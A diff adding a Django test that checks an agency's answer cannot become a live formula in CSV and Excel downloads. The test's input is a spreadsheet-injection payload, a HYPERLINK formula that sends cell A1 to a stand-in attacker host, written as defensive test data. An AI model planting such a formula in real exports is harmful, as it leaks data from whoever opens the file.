@@ -216,3 +216,20 @@ def test_senior_managers_and_the_business_unit_find_assurance_in_the_menu(login,
     assert f'href="{reverse("assurance:round_list")}"' in login(analyst).get(reverse("reporting:figures")).content.decode()
     viewer_page = login(agency_a_viewer).get(reverse("allegations:case_list")).content.decode()
     assert "/assurance/" not in viewer_page
+
+
+def test_an_answer_never_becomes_a_formula_in_the_downloads(analyst, agency_a, agency_a_manager, login):
+    """An agency's answer "=HYPERLINK(...)" stays text in the business unit's CSV and workbook."""
+    round_ = make_round(analyst=analyst, agencies=[agency_a])
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    services.request_answer(actor=agency_a_manager, request=Request.objects.get(round=round_),
+                            answers=_answers(round_, text=evil), submit=True)
+    client = login(analyst)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("assurance:composite_csv", args=[round_.pk]))
+                                       .content.decode())))
+    answers = [row[1] for row in rows[2:]]
+    assert "'" + evil in answers and not any(a.startswith(("=", "+", "-", "@")) for a in answers)
+    sheet = load_workbook(io.BytesIO(client.get(reverse("assurance:composite_xlsx", args=[round_.pk])).content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert "'" + evil in [c.value for c in cells]
+    assert all(c.data_type != "f" for c in cells)
